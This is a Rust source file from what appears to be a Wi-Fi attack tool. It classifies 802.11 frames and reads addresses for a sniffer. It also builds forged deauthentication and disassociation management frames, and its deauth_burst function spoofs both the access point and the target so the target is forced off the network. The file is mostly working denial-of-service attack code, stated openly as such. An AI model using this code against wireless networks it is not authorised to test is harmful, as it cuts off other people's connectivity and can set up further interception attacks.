//! 802.11 frame helpers: classification of received frames, the fixed-offset
//! address extraction used by the sniffer, and the forged management frames
//! sent by a deauthentication session.

use crate::mac::MacAddress;

/// Frame-control byte of a deauthentication frame (type 0, subtype 12).
pub const FC_DEAUTH: u8 = 0xc0;
/// Frame-control byte of a disassociation frame (type 0, subtype 10).
pub const FC_DISASSOC: u8 = 0xa0;

/// "Class 3 frame received from nonassociated STA".
pub const REASON_CLASS3_FROM_NONASSOC: u16 = 0x0007;

pub const DEAUTH_FRAME_LEN: usize = 26;

/// Destination address offset within a received frame.
pub const DST_OFFSET: usize = 4;
/// Source address offset within a received frame.
pub const SRC_OFFSET: usize = 10;

/// Coarse frame type taken from bits 2-3 of the frame-control field.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FrameKind {
    Management,
    Control,
    Data,
    Extension,
}

impl FrameKind {
    pub fn from_frame_control(fc: u8) -> Self {
        match (fc & 0x0c) >> 2 {
            0 => FrameKind::Management,
            1 => FrameKind::Control,
            2 => FrameKind::Data,
            _ => FrameKind::Extension,
        }
    }

    pub fn as_str(&self) -> &'static str {
        match self {
            FrameKind::Management => "Management",
            FrameKind::Control => "Control",
            FrameKind::Data => "Data",
            FrameKind::Extension => "Extension",
        }
    }
}

/// Reads the `(source, destination)` pair at fixed offsets 10 and 4.
///
/// The offsets match the management/data header layout (addr1 at 4, addr2 at
/// 10) and are applied without looking at the frame type or the To/From-DS
/// bits, so for some frames the values are not the true transmitter and
/// receiver. Returns `None` for frames too short to hold both fields.
pub fn extract_addresses(frame: &[u8]) -> Option<(MacAddress, MacAddress)> {
    let src = frame.get(SRC_OFFSET..SRC_OFFSET + 6)?;
    let dst = frame.get(DST_OFFSET..DST_OFFSET + 6)?;
    Some((
        MacAddress::from_slice(src).ok()?,
        MacAddress::from_slice(dst).ok()?,
    ))
}

/// 26-byte management frame carrying a reason code.
///
/// Layout: frame control (2), duration (2), destination (6), source (6),
/// BSSID (6), sequence/fragment (2), reason code (2, little endian).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ManagementFrame {
    bytes: [u8; DEAUTH_FRAME_LEN],
}

impl Default for ManagementFrame {
    fn default() -> Self {
        Self::template()
    }
}

impl ManagementFrame {
    /// Placeholder template: broadcast destination, dummy source and BSSID.
    pub fn template() -> Self {
        let mut bytes = [0u8; DEAUTH_FRAME_LEN];
        bytes[4..10].copy_from_slice(MacAddress::BROADCAST.as_bytes());
        bytes[10..16].copy_from_slice(&[0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff]);
        bytes[16..22].copy_from_slice(&[0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff]);
        bytes[24..26].copy_from_slice(&REASON_CLASS3_FROM_NONASSOC.to_le_bytes());
        Self { bytes }
    }

    pub fn set_frame_control(&mut self, fc: u8) -> &mut Self {
        self.bytes[0] = fc;
        self
    }

    pub fn set_addresses(
        &mut self,
        destination: MacAddress,
        source: MacAddress,
        bssid: MacAddress,
    ) -> &mut Self {
        self.bytes[4..10].copy_from_slice(destination.as_bytes());
        self.bytes[10..16].copy_from_slice(source.as_bytes());
        self.bytes[16..22].copy_from_slice(bssid.as_bytes());
        self
    }

    pub fn frame_control(&self) -> u8 {
        self.bytes[0]
    }

    pub fn destination(&self) -> MacAddress {
        mac_at(&self.bytes, 4)
    }

    pub fn source(&self) -> MacAddress {
        mac_at(&self.bytes, 10)
    }

    pub fn bssid(&self) -> MacAddress {
        mac_at(&self.bytes, 16)
    }

    pub fn reason_code(&self) -> u16 {
        u16::from_le_bytes([self.bytes[24], self.bytes[25]])
    }

    pub fn as_bytes(&self) -> &[u8] {
        &self.bytes
    }
}

fn mac_at(bytes: &[u8], offset: usize) -> MacAddress {
    let mut mac = [0u8; 6];
    mac.copy_from_slice(&bytes[offset..offset + 6]);
    MacAddress(mac)
}

/// The four frames of one injection burst, in send order:
/// deauth and disassoc from AP to target, then deauth and disassoc from
/// target to AP. The BSSID is the AP in all of them.
pub fn deauth_burst(ap: MacAddress, target: MacAddress) -> [ManagementFrame; 4] {
    let mut frames = [ManagementFrame::template(); 4];
    let directions = [(target, ap), (ap, target)];

    for (i, (destination, source)) in directions.into_iter().enumerate() {
        for (j, fc) in [FC_DEAUTH, FC_DISASSOC].into_iter().enumerate() {
            frames[i * 2 + j]
                .set_addresses(destination, source, ap)
                .set_frame_control(fc);
        }
    }
    frames
}
